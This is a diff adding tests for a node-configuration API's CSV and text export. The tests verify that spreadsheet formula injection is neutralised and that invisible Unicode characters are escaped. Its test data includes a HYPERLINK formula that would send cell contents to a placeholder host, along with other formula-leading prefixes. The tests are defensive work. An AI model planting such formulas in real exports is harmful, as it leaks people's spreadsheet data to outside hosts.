@@ -168,3 +168,63 @@ t.test('the states of all nodes', async t => {
     'name,state\r\nn1,\r\nn2,installer.downloaded\r\n'
   )
 })
+
+// rules 12.4
+t.test('no cell is a formula to a spreadsheet, and a table is read back as it was', async t => {
+  const formulas = [
+    '=HYPERLINK("http://x/?"&A1,"y")',
+    '+1',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '\uff1d1',
+    '\uff0b1',
+    '\uff0d1',
+    '\uff201'
+  ]
+  const texts = [...formulas, "'=1", "''=1", "'plain", "it's", '=', "'", ' =1', 'a=1', '-', '-5']
+  const csv = (text: string) => text.split('\r\n').slice(1, -1).join('\r\n')
+  for (const [i, comment] of texts.entries())
+    await c.post(`/config/node/f${i}`, { group: 'compute', comment })
+  const set = `nodes=f[0-${texts.length - 1}]`
+  const table = await text(`/config/node?format=csv&fields=name,comment&${set}`)
+  for (const cell of csv(table).matchAll(/(?:^|,|\n)("(?:[^"]|"")*"|[^",\r\n]*)/g))
+    t.notMatch(cell[1]?.replace(/^"/, ''), /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/)
+  t.match(table, /\r\nf0,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""y""\)"\r\n/)
+  t.match(table, /\r\nf13,"'plain"\r\nf14,it's\r\n/, 'what is none is left alone')
+  const dry = await c.post('/config/node?format=csv&dryrun=yes', table)
+  t.same(dry.body.changes, [], 'posted back, it changes nothing')
+  for (const name of texts.keys()) await c.post(`/config/node/f${name}`, { comment: 'other' })
+  t.equal((await c.post('/config/node?format=csv', table)).status, 200)
+  const { node } = (await c.get(`/config/node?fields=comment&${set}`)).body.config
+  t.strictSame(
+    texts.map((_, i) => node[`f${i}`].comment),
+    texts
+  )
+  // A number is none, though it may be below zero; the name of a column may be anything.
+  t.equal(await text('/config/node/n1?format=csv&fields==1.ipaddress'), `"'=1.ipaddress"\r\n\r\n`)
+  await c.get(`/config/node/f[0-${texts.length - 1}]/_delete`)
+})
+
+t.test('what is not seen is escaped in text, and is itself in JSON', async t => {
+  const comment = 'a\u202eb\u2066\u200b\ufeff\u00ad\u061c\u3164\u{e0041}\u2028\u0085z'
+  await c.post('/config/node/n1', { comment })
+  t.equal((await c.get('/config/node/n1')).body.config.node.n1.comment, comment)
+  t.equal(
+    await text('/config/node/n1?format=text&fields=comment'),
+    'comment\na\\u202eb\\u2066\\u200b\\ufeff\\u00ad\\u061c\\u3164\\udb40\\udc41\\u2028\\u0085z\n'
+  )
+  await c.post('/config/node/n1', { comment: 'says "a, b"' })
+})
+
+t.test('a long value makes its row long, and no other one', async t => {
+  const comment = 'x'.repeat(5000)
+  await c.post('/config/node/n2', { comment })
+  const table = await text('/config/node?format=text&fields=comment,name&sort=name')
+  const lengths = table.split('\n').map(line => line.length)
+  t.same(lengths.filter(length => length > 300).length, 1)
+  t.same(table.split('\n')[1], `${'says "a, b"'.padEnd(256)}  n1`)
+  await c.post('/config/node/n2', { comment: 'two\nlines' })
+})
